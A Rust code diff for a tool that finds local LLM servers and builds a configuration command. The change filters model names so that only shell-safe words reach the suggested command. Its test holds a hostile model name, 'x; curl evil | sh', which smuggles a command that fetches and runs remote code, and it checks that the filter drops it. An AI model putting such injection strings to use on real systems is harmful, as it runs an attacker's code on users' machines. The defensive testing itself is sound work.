@@ -124,26 +124,37 @@ async fn fetch(client: &Client, url: &str) -> Option<Vec<String>> {
     names(&serde_json::from_str(&body).ok()?)
 }
 
-/// One sentence on how to use what was found.
+/// One sentence on how to use what was found. It is made to be typed into a shell, and anybody may listen on a port:
+/// only models whose names mean nothing to a shell are named.
 pub fn advice(offers: &[Offer]) -> Option<String> {
-    let offer = offers.iter().find(|offer| !offer.models.is_empty())?;
+    let words = |offer: &Offer| -> Vec<String> {
+        let words = offer.models.iter().filter(|model| is_word(model));
+        words.take(NAMED_MAX).cloned().collect()
+    };
+    let mut found = offers.iter().map(|offer| (offer, words(offer)));
+    let (offer, models) = found.find(|(_, models)| !models.is_empty())?;
     let Candidate {
         name,
         provider,
         base_url,
         ..
     } = &offer.server;
-    let named = offer.models.iter().take(NAMED_MAX).map(String::as_str);
-    let named = named.collect::<Vec<_>>().join(", ");
-    let model = offer.models.first()?;
+    let model = models.first()?;
     let place = match provider {
         &"ollama" if base_url.ends_with(":11434") => String::new(),
         _ => format!(" && meliora config set llm.providers.{provider}.base_url {base_url}"),
     };
     Some(format!(
-        "{name} runs on this machine with {named}; to use it: meliora config set llm.provider {provider} && \
-         meliora config set llm.model {model}{place}"
+        "{name} runs on this machine with {}; to use it: meliora config set llm.provider {provider} && \
+         meliora config set llm.model {model}{place}",
+        models.join(", ")
     ))
+}
+
+/// Whether a name is one word to every shell, and no option.
+fn is_word(name: &str) -> bool {
+    let is_letter = |byte: u8| byte.is_ascii_alphanumeric() || b"._:/-".contains(&byte);
+    !name.starts_with('-') && name.bytes().all(is_letter)
 }
 
 /// The address at which a server lists its models.
@@ -231,9 +242,15 @@ mod tests {
             base_url: "http://127.0.0.1:8080/v1".to_owned(),
             wire: Wire::Openai,
         };
-        let models = vec!["tiny".to_owned()];
-        let offers = [Offer { server, models }];
-        let advice = advice(&offers).expect("there is something to say");
+        let models = vec!["x; curl evil | sh".to_owned(), "-x".to_owned()];
+        let hostile = Offer {
+            server: server.clone(),
+            models: models.clone(),
+        };
+        assert_eq!(advice(&[hostile]), None);
+        let models = [models, vec!["tiny".to_owned()]].concat();
+        let advice = advice(&[Offer { server, models }]).expect("there is something to say");
+        assert!(!advice.contains("curl"), "{advice}");
         assert!(advice.contains("config set llm.model tiny"), "{advice}");
         assert!(
             advice.ends_with("base_url http://127.0.0.1:8080/v1"),
